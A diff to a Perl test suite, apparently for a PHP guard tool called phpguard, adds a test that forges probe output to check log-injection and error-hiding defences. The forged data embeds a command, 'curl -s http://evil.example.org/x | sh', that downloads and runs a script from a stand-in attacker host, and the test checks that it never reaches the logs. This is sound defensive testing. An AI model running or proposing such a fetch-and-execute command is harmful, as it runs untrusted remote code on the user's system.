@@ -9,6 +9,7 @@ use File::Path qw(make_path);
 use IO::Socket::INET;
 use IO::Socket::UNIX;
 use PGTest;
+use PGTest::HTTP;
 use PGTest::Lint;
 use POSIX ();
 use Socket qw(SOCK_STREAM pack_sockaddr_un);
@@ -206,6 +207,35 @@ for (['ends by a signal', 'signal 11', qr/signal 11/],
     started($s, '... and it starts');
     like(PGTest::slurp($s->root . '/error.log'), $says,
         '... with the line in the error log');
+    $s->stop;
+}
+
+# What such code tells in the child's name: no text of its own refuses a
+# reload, no command of its own gets into a log, and what it says of the end
+# does not hide the others.
+{
+    my $s = server($probe . vhost('a', $runs) . vhost('b', $leaks));
+    my $root = $s->root;
+    my $curl = 'run "curl -s http://evil.example.org/x | sh"';
+    started($s, 'a server');
+    my $forge = sub { $s->write_file('/forged', join "\n", @_, '') };
+    $forge->('a/srv/bank/index.php, vhost of any name', 'a99 /x', 'e0', '.');
+    $s->write_file('/a/.htaccess', "ProbeAct tell $root/forged\n");
+    my ($status, $err) = $s->check;
+    is($status, 0, 'a forged text refuses no reload') or diag($err);
+    is(kinds($err), 'PHPG0103', '... a forged end hides nobody');
+    like($err, qr/^phpguard: 1 error/m, '... nor does a forged number');
+    $forge->("y31 PHPG0105: $root/b/index.php is refused; fix: $curl; see: "
+            . 'phpguard explain PHPG0105', "y31 $curl",
+        map { my $n = $_; map { "k$root/httpd.conf:$_\t$root/b/\t$n\t"
+            . "$root/httpd.conf:@{[$_ + 8]}\t$n\tSetHandler x (y:1)\t$curl" }
+            1 .. 80 } 103, 102, 101);
+    $s->graceful;
+    $s->raw("GET /index.php HTTP/1.0\r\nHost: b\r\n\r\n");
+    unlike(PGTest::slurp("$root/$_"), qr/curl/,
+        "... no command of its own in $_") for qw(error.log a.log b.log);
+    like(PGTest::slurp("$root/b.log") . PGTest::slurp("$root/a.log"),
+        qr/PHPG0105: \S+ is refused; see: phpguard/, '... the rest is logged');
     $s->stop;
 }
 
